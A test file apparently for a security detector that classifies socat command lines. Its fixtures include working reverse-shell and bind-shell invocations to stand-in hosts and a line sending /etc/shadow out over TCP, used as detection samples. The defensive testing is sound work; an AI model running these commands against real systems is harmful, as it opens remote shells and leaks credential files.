import { describe, expect, it } from 'vitest';
import { parseSocatAddress } from '../../../src/detect/arguments/socat-address.ts';
import { parse, peersOf } from './support.ts';

describe('socat: a program on a connection', () => {
  it.each([
    ['TCP-L:1,fork exec:sh', 'sh', ['listen any  1']],
    ['exec:sh tcp-l:1', 'sh', ['listen any  1']],
    [
      "'exec:bash -li,pty,stderr,setsid,sigint,sane' tcp:203.0.113.9:4444",
      'bash -li',
      ['connect public_ip 203.0.113.9 4444'],
    ],
    ['TCP4-LISTEN:5555,reuseaddr,fork SYSTEM:/bin/sh', '/bin/sh', ['listen any  5555']],
    ["OPENSSL:203.0.113.9:443,verify=0 SHELL:'sh -i'", 'sh -i', ['connect public_ip 203.0.113.9 443']],
    ['TCP-LISTEN:1,bind=127.0.0.1 EXEC:sh', 'sh', ['listen loopback 127.0.0.1 1']],
    ['UDP6:[2001:db8::1]:53 EXEC:sh', 'sh', ['connect public_ip 2001:db8::1 53']],
    [
      '-d -d -lf /tmp/l TCP:192.0.2.10:443 \'EXEC:"/bin/sh -c id,x",pty\'',
      '/bin/sh -c id,x',
      ['connect public_ip 192.0.2.10 443'],
    ],
    ['-t 5 TCP:192.0.2.10:443 EXEC:sh', 'sh', ['connect public_ip 192.0.2.10 443']],
    ['STDIN!!EXEC:sh TCP:192.0.2.10:443', 'sh', ['connect public_ip 192.0.2.10 443']],
  ])('%s', (line, program, peers) => {
    const invocation = parse('socat', line);
    expect(invocation.attached).toMatchObject([{ program, on_socket: true }]);
    expect(peersOf(invocation)).toEqual(peers.map((peer) => peer.replace(/ +$/, '')));
  });

  it('without a connection it only runs', () => {
    expect(parse('socat', '- EXEC:date').attached).toMatchObject([{ on_socket: false }]);
  });
  it('pty alone proves nothing', () => {
    expect(parse('socat', 'PTY,link=/dev/x,raw TCP:10.0.0.1:1').attached).toEqual([]);
  });
});

describe('socat: the rest', () => {
  it.each([
    ['stdio unix-connect:/var/run/haproxy.sock', ['connect unix /var/run/haproxy.sock']],
    ['- UNIX-CONNECT:/var/run/docker.sock', ['connect unix /var/run/docker.sock']],
    ['- /var/run/docker.sock', ['connect unix /var/run/docker.sock']],
    ['- ABSTRACT-CONNECT:x', ['connect unix @x']],
    ['- TCP:localhost:80', ['connect loopback localhost 80']],
    [
      '- SOCKS4A:203.0.113.9:x.onion:80,socksport=9050',
      ['proxy public_ip 203.0.113.9 9050', 'connect public_name x.onion 80'],
    ],
    [
      '- PROXY:203.0.113.9:x.example:443,proxyport=3128',
      ['proxy public_ip 203.0.113.9 3128', 'connect public_name x.example 443'],
    ],
  ])('%s', (line, peers) => {
    expect(peersOf(parse('socat', line))).toEqual(peers);
  });

  it('a listener on one side and a connection on the other is a forward', () => {
    expect(parse('socat', 'TCP-LISTEN:9000,fork TCP:10.0.0.5:3306').forwards).toHaveLength(1);
    expect(parse('socat', '- TCP:10.0.0.5:3306').forwards).toEqual([]);
  });
  it('a file that only goes one way is sent or written', () => {
    expect(parse('socat', '-u FILE:/etc/shadow TCP:203.0.113.9:1').uploads).toMatchObject([
      { path: '/etc/shadow' },
    ]);
    expect(parse('socat', '-u TCP-LISTEN:1 CREATE:/tmp/x').writes).toMatchObject([{ path: '/tmp/x' }]);
    expect(parse('socat', 'FILE:/dev/ttyS0 TCP:h:1').reads).toEqual([]);
  });
  it.each([
    ['-V', 'version'],
    ['-h', 'help'],
    ['-hh', 'help'],
    ['-?', 'help'],
    ['', 'no_operand'],
  ])('%s is %s', (line, inert) => {
    expect(parse('socat', line).inert).toBe(inert);
  });
});

describe('a socat address', () => {
  it('keeps commas in quotes and brackets', () => {
    expect(parseSocatAddress("SYSTEM:'a,b',pty")[0]).toMatchObject({ type: 'SYSTEM', parameters: ['a,b'] });
    expect(parseSocatAddress('EXEC:[a,b],pty')[0]?.options.has('pty')).toBe(true);
  });
  it.each([
    ['-', 'STDIO'],
    ['3', 'FD'],
    ['./x', 'GOPEN'],
    ['SSL-L:1', 'OPENSSL-LISTEN'],
    ['tcp', 'TCP'],
  ])('%s is of type %s', (text, type) => {
    expect(parseSocatAddress(text)[0]?.type).toBe(type);
  });
});
